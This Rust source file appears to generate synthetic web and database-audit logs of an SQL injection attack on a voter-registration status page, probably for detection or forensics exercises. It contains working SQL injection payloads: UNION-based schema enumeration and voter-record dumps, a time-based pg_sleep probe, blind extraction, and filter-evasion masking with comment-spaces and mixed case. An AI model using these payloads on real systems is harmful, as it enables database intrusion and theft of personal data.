//! Injection into the page of an application's status.

use super::super::entry::{Client, Request, Role};
use super::super::visitors::read;
use super::super::words::{FIRST_ID, encode};
use super::Planter;
use std::borrow::Cow;

/// Addresses that it came from, of the range for documents: those of 2016 belong to somebody.
const FROM: [Client; 3] = [
    Client::v4(203, 0, 113, 71),
    Client::v4(203, 0, 113, 72),
    Client::v4(198, 51, 100, 201),
];

/// What is put behind a number, and how many rows come back.
const PROBES: [(&str, u64); 12] = [
    ("'", 0),
    ("' AND 1=1-- ", 1),
    ("' AND 1=2-- ", 0),
    ("' ORDER BY 5-- ", 0),
    ("' AND (SELECT 1 FROM pg_sleep(5)) IS NOT NULL-- ", 1),
    ("' UNION SELECT NULL,NULL,NULL,NULL-- ", 2),
    ("' UNION ALL SELECT NULL,version(),NULL,NULL-- ", 2),
    (
        "' UNION SELECT NULL,table_name,NULL,NULL FROM information_schema.tables-- ",
        74,
    ),
    (
        "' UNION SELECT NULL,column_name,NULL,NULL FROM information_schema.columns WHERE table_name='voter'-- ",
        11,
    ),
    (
        "' AND ASCII(SUBSTRING((SELECT current_user),1,1))>109-- ",
        1,
    ),
    ("' OR '1'='1' LIMIT 20-- ", 20),
    (
        "' UNION SELECT id::text,last_name,first_name,street FROM voter LIMIT 15 OFFSET 0-- ",
        16,
    ),
];

impl Planter<'_> {
    pub(super) fn illinois(&mut self, slow_days: u32, fast_s: u32) {
        let begin = self.at_ms;
        for day in 0..i64::from(slow_days) {
            // Some hours of work a day.
            self.at_ms = begin + day * 86_400_000 + self.dice.below(7_200_000) as i64;
            for _ in 0..30 + self.dice.below(20) {
                let (probe, rows) = *self.dice.pick(&PROBES);
                self.inject(probe, rows);
                self.wait(420_000);
            }
        }
        self.at_ms = begin + i64::from(slow_days) * 86_400_000;
        for number in 0..u64::from(fast_s) * 5 {
            let probe = format!(
                "' UNION SELECT id::text,last_name,first_name,street FROM voter ORDER BY id LIMIT 27 OFFSET {}-- ",
                number * 27
            );
            self.inject(&probe, 28);
            self.at_ms += 200;
        }
    }

    fn inject(&mut self, probe: &str, rows: u64) {
        let client = *self.dice.pick(&FROM);
        let id = FIRST_ID + self.dice.below(self.people.voters);
        let mut target = "/status?id=".to_owned();
        encode(
            &format!("{id}{}", masked(probe, self.dice.next())),
            &mut target,
        );
        // A broken statement shows as an error of the page.
        let is_error = probe == "'" || probe.contains("ORDER BY 5");
        let took_ms = if probe.contains("pg_sleep") {
            5_012
        } else {
            30
        };
        let (status, bytes) = match is_error {
            true => (500, 612),
            false => (200, 1_900 + 96 * rows as u32),
        };
        let agent = self.words.desk[2].as_str();
        let request = Request {
            client,
            method: "GET",
            target,
            body: String::new(),
            status,
            bytes,
            referrer: Cow::Borrowed(""),
            agent: Cow::Borrowed(agent),
            took_ms,
        };
        self.agenda.web(self.at_ms, request);
        if !self.plan.web_only && !is_error {
            let statement = format!(
                "select id, first_name, last_name, status from voter where id = '{id}{probe}'"
            );
            let pool = self.dice.below(super::super::visitors::POOL) as u16;
            self.agenda.audit(
                self.at_ms + 2,
                (Role::Portal, pool),
                statement,
                read("public.voter", rows),
            );
        }
    }
}

/// Blanks as comments, letters in mixed case, or as it is.
fn masked(probe: &str, draw: u64) -> String {
    match draw % 4 {
        0 => probe.replace(' ', "/**/"),
        1 => {
            let letters = probe.chars().enumerate();
            letters
                .map(|(at, letter)| match at % 2 {
                    0 => letter.to_ascii_lowercase(),
                    _ => letter.to_ascii_uppercase(),
                })
                .collect()
        }
        _ => probe.to_owned(),
    }
}
